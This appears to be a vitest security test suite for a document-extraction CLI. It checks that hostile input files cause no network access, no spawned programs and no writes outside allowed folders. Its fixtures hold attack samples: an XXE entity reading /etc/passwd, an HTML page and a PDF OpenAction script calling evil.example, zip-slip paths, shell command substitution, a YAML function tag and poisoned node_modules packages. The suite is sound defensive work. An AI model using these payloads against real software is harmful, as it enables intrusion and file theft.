import { cpSync } from 'node:fs';
import { join } from 'node:path';
import { describe, expect, test } from 'vitest';
import { docxOf, p, r, relationsOf } from '../helpers/docx-of.js';
import { makePdf } from '../helpers/make-pdf.js';
import { tempFolder } from '../helpers/temp-folder.js';
import { CAN_TRACE, type SystemCalls, traceCalls } from '../helpers/trace-calls.js';
import { zipOf } from '../helpers/zip-of.js';

const SENTENCE = '2024年，全市粮食总产量达到512.6万吨，同比增长3.2%。';
const AWAY = 'http://evil.example/';

const PAGE = `<!DOCTYPE html PUBLIC "-//W3C//DTD" "${AWAY}a.dtd"><html><head><base href="${AWAY}">
<meta http-equiv="refresh" content="0;url=${AWAY}"><link rel="stylesheet" href="${AWAY}a.css"><link rel="preload" href="${AWAY}b">
<script src="${AWAY}a.js"></script><script>fetch("${AWAY}")</script></head><body onload="fetch('${AWAY}')">
<img src="${AWAY}a.png"><iframe src="${AWAY}"></iframe><object data="file:///etc/passwd"></object><p>${SENTENCE}</p></body></html>`;

/** Documents that ask for what is elsewhere, run what they bring, or name files outside. */
const HOSTILE: Record<string, string | Uint8Array> = {
  'page.html': PAGE,
  'linked.docx': docxOf(
    p(r(SENTENCE)),
    {},
    {
      'word/_rels/document.xml.rels': relationsOf([
        ['attachedTemplate', `${AWAY}a.dotm`],
        ['image', `${AWAY}a.png`],
      ]),
      'word/vbaProject.bin': 'Sub AutoOpen()',
    },
  ),
  'entity.docx': docxOf(
    '',
    {},
    {
      'word/document.xml': `<!DOCTYPE a [<!ENTITY x SYSTEM "${AWAY}"><!ENTITY y SYSTEM "file:///etc/passwd">]><a>&x;&y;</a>`,
    },
  ),
  'escaping.docx': zipOf([
    ['../../escaped.txt', SENTENCE],
    ['/tmp/escaped.txt', SENTENCE],
    ['word/document.xml', '<a/>'],
  ]),
  'script.pdf': makePdf([{ texts: [{ text: SENTENCE, x: 50, y: 80 }] }], {
    catalog: `/OpenAction << /S /JavaScript /JS (app.launchURL\\('${AWAY}'\\)) >> /AA << /WC << /S /URI /URI (${AWAY}) >> >>`,
  }),
  'archive.zip': zipOf([
    ['../up.txt', SENTENCE],
    ['ok.txt', SENTENCE],
  ]),
  'tagged.md': `---\nx: !!js/function 'function(){process.exit(9)}'\n---\n\n![a](${AWAY}a.png)\n\n${SENTENCE}\n`,
  'report.txt': `${SENTENCE}\n$(touch /tmp/escaped) \`touch /tmp/escaped\`\n`,
};

function expectHarmless(calls: SystemCalls, allowed: readonly string[]): void {
  expect(calls.sockets).toEqual([]);
  expect(calls.started.filter((program) => program !== process.execPath)).toEqual([]);
  const outside = calls.written.filter((path) => !allowed.some((folder) => path.startsWith(`${folder}/`)));
  // A relative path is the temporary file beside a relative output; none is given here.
  expect(outside.filter((path) => path !== '/dev/null' && path !== '/dev/tty')).toEqual([]);
}

describe.skipIf(!CAN_TRACE)('case 25: a run over hostile documents', () => {
  const cases: readonly [string, (input: string, out: string) => string[]][] = [
    ['ndjson to the pipe', (input) => ['extract', input]],
    [
      'json at two jobs',
      (input, out) => ['extract', input, '--jobs', '2', '-o', `${out}/a.json`, '--log', `${out}/log`],
    ],
    ['a workbook', (input, out) => ['extract', input, '-o', `${out}/a.xlsx`]],
    ['a database', (input, out) => ['extract', input, '-o', `${out}/a.sqlite`]],
    ['parquet', (input, out) => ['extract', input, '-o', `${out}/a.parquet`]],
    ['with a manifest', (input, out) => ['extract', input, '-o', `${out}/a.csv`, '--manifest', `${out}/m`]],
    ['the page of a report', (input, out) => ['report', input, '-o', `${out}/a.html`]],
    ['a comparison', (input) => ['diff', `${input}/report.txt`, `${input}/page.html`]],
    ['the text of one', (input) => ['text', `${input}/script.pdf`]],
    ['checks', (input) => ['check', input]],
  ];

  test.each(cases)('%s: no socket, no other program, nothing written elsewhere', (_, argvOf) => {
    const input = tempFolder(HOSTILE);
    const [out, cache] = [tempFolder(), tempFolder()];
    const calls = traceCalls(argvOf(input, out), { env: { XDG_CACHE_HOME: cache } });
    expect(calls.stderr).not.toContain('E-INTERNAL');
    expect([0, 3]).toContain(calls.status);
    expectHarmless(calls, [out, cache]);
  });

  test('a folder that brings its own configuration and packages has no say in what is run or written', () => {
    const input = tempFolder({
      'report.txt': SENTENCE,
      'report.pdf': makePdf([{ texts: [{ text: SENTENCE, x: 50, y: 80 }] }]),
      'package.json': '{"type":"module","imports":{"#a":"./evil.js"}}',
      '.npmrc': 'node-options=--require ./evil.js',
      ...Object.fromEntries(
        ['pdfjs-dist', 'node-sqlite3-wasm', 'nodejieba', '@node-rs/jieba', 'yaml', 'zod', 're2js'].flatMap(
          (name) => [
            [`node_modules/${name}/package.json`, `{"name":"${name}","version":"5.0.0","main":"index.js"}`],
            [`node_modules/${name}/index.js`, 'require("fs").writeFileSync("/tmp/escaped", "")'],
            [
              `node_modules/${name}/legacy/build/pdf.mjs`,
              'import fs from "fs"; fs.writeFileSync("/tmp/escaped", "")',
            ],
          ],
        ),
      ),
    });
    const [out, cache] = [tempFolder(), tempFolder()];
    const calls = traceCalls(['extract', '.', '-o', `${out}/a.sqlite`], {
      cwd: input,
      env: { XDG_CACHE_HOME: cache },
    });
    expect(calls.status).toBe(0);
    expectHarmless(calls, [out, cache]);
  });

  test.each(['output: /tmp/escaped', 'log: /tmp/escaped', 'manifest: /tmp/escaped', 'append: true'])(
    'a configuration that is found cannot say where to write: %s',
    (line) => {
      const input = tempFolder({ 'report.txt': SENTENCE, 'zhibiao.yaml': `extract:\n  ${line}\n` });
      const cache = tempFolder();
      const calls = traceCalls(['extract', 'report.txt'], { cwd: input, env: { XDG_CACHE_HOME: cache } });
      expect(calls.status).toBe(2);
      expect(calls.stderr).toMatch(/E-CONFIG\] zhibiao.yaml:2:3: \w+ cannot stand in a configuration/);
      expectHarmless(calls, [cache]);
    },
  );
});

test.skipIf(!CAN_TRACE)('the tracing sees what it is there to see', () => {
  const input = tempFolder();
  cpSync('seeds', join(input, 'seeds'), { recursive: true });
  const out = tempFolder();
  const { written, started } = traceCalls(['extract', join(input, 'seeds'), '-o', join(out, 'a.json')]);
  expect(written).toContain(join(out, 'a.json'));
  expect(started).toEqual([process.execPath]);
  const hook = join(
    tempFolder({ 'hook.cjs': "require('node:net').connect(9, '127.0.0.1').on('error', () => {})" }),
    'hook.cjs',
  );
  const env = { NODE_OPTIONS: `--require ${hook}` };
  expect(traceCalls(['schema'], { env }).sockets.join('\n')).toContain('AF_INET');
});
